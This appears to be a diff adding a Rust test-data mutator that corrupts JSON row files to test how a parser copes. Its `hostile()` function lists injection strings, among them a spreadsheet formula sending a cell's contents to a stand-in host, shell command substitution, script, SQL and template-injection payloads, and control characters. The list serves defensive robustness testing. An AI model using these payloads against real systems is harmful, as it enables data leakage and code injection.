@@ -1,0 +1,231 @@
+//! Row files made worse: fields that nobody knows, fields that are not there, texts that somebody wrote to do harm.
+
+use std::collections::BTreeSet;
+
+use serde_json::{Value, json};
+
+use super::rows::Files;
+use super::spec::{RowFile, Shape, Spec};
+
+/// The rows of a file, as far as it is built so.
+fn rows<'v>(file: &'v mut Value, shape: Shape) -> Vec<&'v mut Value> {
+    match (shape, file) {
+        (Shape::Plain, Value::Array(rows)) => rows.iter_mut().collect(),
+        (Shape::Keyed, Value::Object(keys)) => {
+            let of = keys.values_mut().flat_map(|value| match value {
+                Value::Array(rows) => rows.iter_mut().collect::<Vec<_>>(),
+                document => vec![document],
+            });
+            of.collect()
+        }
+        (_, file) => vec![file],
+    }
+}
+
+/// How a file is built, as its operations see it.
+fn shape(spec: &Spec, file: &str) -> Shape {
+    let operation = spec.operations.iter().find(|operation| operation.rows.file() == file);
+    operation.map_or(Shape::Plain, |operation| operation.rows.shape())
+}
+
+fn said<'s>(spec: &'s Spec, file: &str) -> Option<&'s RowFile> {
+    spec.rows.get(file)
+}
+
+/// Goes through a value, with the pointer to each part, indices of arrays as `*`.
+fn walk(value: &mut Value, at: &str, visit: &mut dyn FnMut(&str, &mut Value)) {
+    visit(at, value);
+    match value {
+        Value::Array(items) => items.iter_mut().for_each(|item| walk(item, &format!("{at}/*"), visit)),
+        Value::Object(object) => {
+            for (key, value) in object.iter_mut() {
+                let key = key.replace('~', "~0").replace('/', "~1");
+                walk(value, &format!("{at}/{key}"), visit);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Is the pointer one of these?
+fn is_named(names: &[String], at: &str) -> bool {
+    let parts: Vec<&str> = at.split('/').collect();
+    names.iter().any(|name| {
+        let (name, below) = name.strip_suffix("/**").map_or((name.as_str(), false), |top| (top, true));
+        let wanted: Vec<&str> = name.split('/').collect();
+        let long = if below { parts.len() >= wanted.len() } else { parts.len() == wanted.len() };
+        long && wanted.iter().zip(&parts).all(|(wanted, part)| *wanted == "*" || wanted == part)
+    })
+}
+
+/// No rows anywhere. Documents stay as they are.
+pub fn empty(spec: &Spec, files: &Files) -> Files {
+    let mut files = files.clone();
+    for (name, file) in &mut files {
+        match (shape(spec, name), file) {
+            (_, Value::Array(rows)) => rows.clear(),
+            (Shape::Keyed | Shape::Lists, Value::Object(keys)) => {
+                keys.values_mut().filter_map(Value::as_array_mut).for_each(Vec::clear);
+            }
+            _ => {}
+        }
+    }
+    files
+}
+
+/// Whether rows are left where there are none: documents.
+pub fn has_documents(spec: &Spec, files: &Files) -> bool {
+    files.iter().any(|(name, file)| match shape(spec, name) {
+        Shape::Plain => !file.is_array(),
+        Shape::Keyed => file.as_object().is_some_and(|keys| keys.values().any(|value| !value.is_array())),
+        Shape::Lists => false,
+    })
+}
+
+/// A key that no product has.
+const UNKNOWN: &str = "counterfoilUnknown";
+
+/// Every object knows more than it did.
+pub fn unknown(spec: &Spec, files: &Files) -> Files {
+    let mut files = files.clone();
+    for (name, file) in &mut files {
+        let maps = said(spec, name).map(|said| said.maps.clone()).unwrap_or_default();
+        let shape = shape(spec, name);
+        for row in rows(file, shape) {
+            walk(row, "", &mut |at, value| {
+                let list_of_lists = shape == Shape::Lists && at.is_empty();
+                if let Value::Object(object) = value
+                    && !list_of_lists
+                    && !is_named(&maps, at)
+                    && !at.contains(UNKNOWN)
+                {
+                    object.insert(
+                        "counterfoilUnknown".to_owned(),
+                        json!({ "is": [1, null, "new"], "b": true }),
+                    );
+                }
+            });
+        }
+    }
+    files
+}
+
+/// A field of a row file.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Field {
+    pub file: String,
+    pub at: String,
+}
+
+impl Field {
+    /// What an error has to call it.
+    pub fn name(&self) -> String {
+        let name = self.at.rsplit('/').find(|part| *part != "*").unwrap_or_default();
+        name.replace("~1", "/").replace("~0", "~")
+    }
+}
+
+/// Every field that need not be there.
+pub fn optional(spec: &Spec, files: &Files) -> Vec<Field> {
+    let mut found = BTreeSet::new();
+    for (name, file) in &mut files.clone() {
+        let said = said(spec, name).cloned().unwrap_or_default();
+        let shape = shape(spec, name);
+        for row in rows(file, shape) {
+            walk(row, "", &mut |at, _| {
+                let list = shape == Shape::Lists && at.matches('/').count() < 2;
+                let key = !at.is_empty() && !at.ends_with("/*") && !list;
+                // A key of a map is data, not a field.
+                let of_map = at.rsplit_once('/').is_some_and(|(top, _)| is_named(&said.maps, top));
+                if key && !of_map && !is_named(&said.required, at) {
+                    found.insert(Field { file: name.clone(), at: at.to_owned() });
+                }
+            });
+        }
+    }
+    found.into_iter().collect()
+}
+
+/// A field is nowhere, or null everywhere.
+pub fn without(spec: &Spec, files: &Files, field: &Field, null: bool) -> Files {
+    let mut files = files.clone();
+    let (top, key) = field.at.rsplit_once('/').unwrap();
+    let key = key.replace("~1", "/").replace("~0", "~");
+    let file = files.get_mut(&field.file).unwrap();
+    for row in rows(file, shape(spec, &field.file)) {
+        walk(row, "", &mut |at, value| {
+            if at == top
+                && let Value::Object(object) = value
+                && object.contains_key(&key)
+            {
+                if null {
+                    object.insert(key.clone(), Value::Null);
+                } else {
+                    object.remove(&key);
+                }
+            }
+        });
+    }
+    files
+}
+
+/// Texts that somebody wrote to do harm; none is longer than a title.
+fn hostile(number: usize) -> String {
+    let texts = [
+        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")",
+        "\u{202e}toor\u{202c}\u{2066}\u{200b}\u{feff}",
+        "\u{1b}[2J\u{7}\r\n\u{8}\u{7f}\u{85}\u{2028}",
+        "$(touch counterfoil-was-here); `touch counterfoil-was-here` | @json \\(1+1) \\u0000",
+        "\u{1f9d1}\u{200d}\u{1f4bb} e\u{301}\u{327} \u{fdfa} ß İ ﬀ",
+        "<script>alert(1)</script>'\" OR 1=1 -- {{7*7}} ${7*7} %s %n {\"type\":\"grant\"}",
+        "   ",
+    ];
+    format!("{}{number}", texts[number % texts.len()])
+}
+
+/// Which free texts are made hostile, and how.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Harm {
+    /// All of them, in turn.
+    All,
+    /// One of each field is long, and one of each file a megabyte.
+    Long,
+    /// The first of each file holds a NUL character.
+    Nul,
+}
+
+/// Free texts are what somebody wrote to do harm.
+pub fn harmful(spec: &Spec, files: &Files, harm: Harm) -> Files {
+    let mut files = files.clone();
+    let mut number = 0;
+    for (name, file) in &mut files {
+        let ids = said(spec, name).map(|said| said.ids.clone()).unwrap_or_default();
+        let mut done: BTreeSet<String> = BTreeSet::new();
+        for row in rows(file, shape(spec, name)) {
+            walk(row, "", &mut |at, value| {
+                if !value.is_string() || is_named(&ids, at) {
+                    return;
+                }
+                number += 1;
+                let first = done.insert(at.to_owned());
+                match harm {
+                    Harm::All => *value = hostile(number).into(),
+                    Harm::Long if first => {
+                        let times = if done.len() == 1 { 1 << 17 } else { 1 << 12 };
+                        *value = "long\u{1f9d1} ".repeat(times).into();
+                    }
+                    Harm::Nul if done.len() == 1 && first => *value = "a\0b".into(),
+                    _ => {}
+                }
+            });
+        }
+    }
+    files
+}
+
+/// How many free texts there are.
+pub fn free_texts(spec: &Spec, files: &Files) -> usize {
+    let before: Vec<Value> = files.values().cloned().collect();
+    let after: Vec<Value> = harmful(spec, files, Harm::All).into_values().collect();
+    before.iter().zip(&after).filter(|(a, b)| a != b).count()
+}
